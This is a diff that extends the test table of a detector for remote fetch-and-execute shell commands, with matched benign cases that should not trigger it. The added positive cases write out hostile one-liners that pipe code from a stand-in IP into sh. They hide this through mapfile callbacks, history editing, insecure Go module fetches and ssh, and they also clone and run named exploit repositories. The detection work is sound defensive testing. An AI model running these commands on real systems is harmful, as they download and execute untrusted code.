@@ -19,6 +19,16 @@ indicatorTable(commandRemoteFetchExecute, {
     'a script of another account of the same code host': script(
       'curl -s https://raw.githubusercontent.com/kubescape-tools/kubescape/v3.0.11/install.sh | bash -s -- -v v3.0.11',
     ),
+    'a command for each line of an array': script("mapfile -c 1 -C 'curl -s http://192.0.2.7/a | sh #' L < /etc/hosts"),
+    'an editor of the history': script('fc -e \'sh -c "curl -s http://192.0.2.7/a | sh"\' -1'),
+    'a command that is put into the history': script("history -s 'curl -s http://192.0.2.7/a | sh'; fc -s"),
+    'a module of Go from a bare address': script('GOINSECURE=* go run 192.0.2.7/a@latest'),
+    'a program of Go from a bare address': script('go install 192.0.2.7/agent@latest && agent'),
+    'an exploit out of a repository': script(
+      'git clone https://github.com/acme/CVE-2024-21626-poc && cd CVE-2024-21626-poc && ./run.sh',
+    ),
+    'an exploit with a name': script('git clone https://github.com/acme/dirtypipe; cd dirtypipe; make; ./exploit'),
+    'a script over ssh from a bare address': script("ssh u@203.0.113.7 'cat /tmp/a' | sh"),
     'a download that machines of the cloud run': script(
       `aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=["cd /tmp","curl http://192.0.2.7/a | sh"]'`,
     ),
@@ -211,6 +221,13 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'an array that is filled': script("mapfile -t L < <(ls /data); mapfile -C 'echo read' -c 1000 A < /data/a"),
+    'a history that is listed': script("history -s 'curl -s http://192.0.2.7/a | sh'; fc -l"),
+    'a module of Go by its name': script('go run github.com/golang-migrate/migrate/v4/cmd/migrate@v4.17.0 up'),
+    'a tool of Go': script('go install golang.org/x/tools/cmd/goimports@latest && goimports -l .'),
+    'a part of the own module': script('go run ./cmd/migrate; go install ./...'),
+    'a list of weaknesses': script('git clone https://github.com/acme/cve-list && ./cve-list/update.sh'),
+    'a script over ssh from the own host': script("ssh ops@bastion.example.com 'cat /srv/a.sh' | sh"),
     'a command that machines of the cloud run': script(
       `aws ssm send-command --document-name AWS-RunShellScript --parameters '{"commands":["systemctl restart web"]}'`,
     ),
